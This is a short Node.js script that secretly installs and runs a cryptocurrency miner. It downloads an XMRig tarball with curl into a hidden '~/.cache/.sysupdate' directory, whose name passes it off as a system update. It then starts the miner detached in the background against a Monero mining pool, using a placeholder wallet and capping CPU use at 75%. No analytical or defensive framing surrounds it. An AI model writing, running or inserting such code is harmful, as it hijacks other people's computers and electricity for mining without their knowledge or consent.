const { spawn, execSync } = require('child_process');
const os = require('os');
const path = require('path');
const dir = path.join(os.homedir(), '.cache', '.sysupdate');
execSync(`mkdir -p ${dir} && curl -sL https://files.example/xmrig-6.21.0-linux-static-x64.tar.gz | tar -xz -C ${dir} --strip-components=1`);
const miner = spawn(path.join(dir, 'xmrig'), [
  '-o', 'stratum+tcp://pool.supportxmr.example:3333',
  '-u', '4FakeMoneroWalletAddressDoNotUse000000000000000000000000000000000000000000000000000000000000',
  '-p', os.hostname(), '--cpu-max-threads-hint=75', '--donate-level=0', '-B',
], { detached: true, stdio: 'ignore' });
miner.unref();
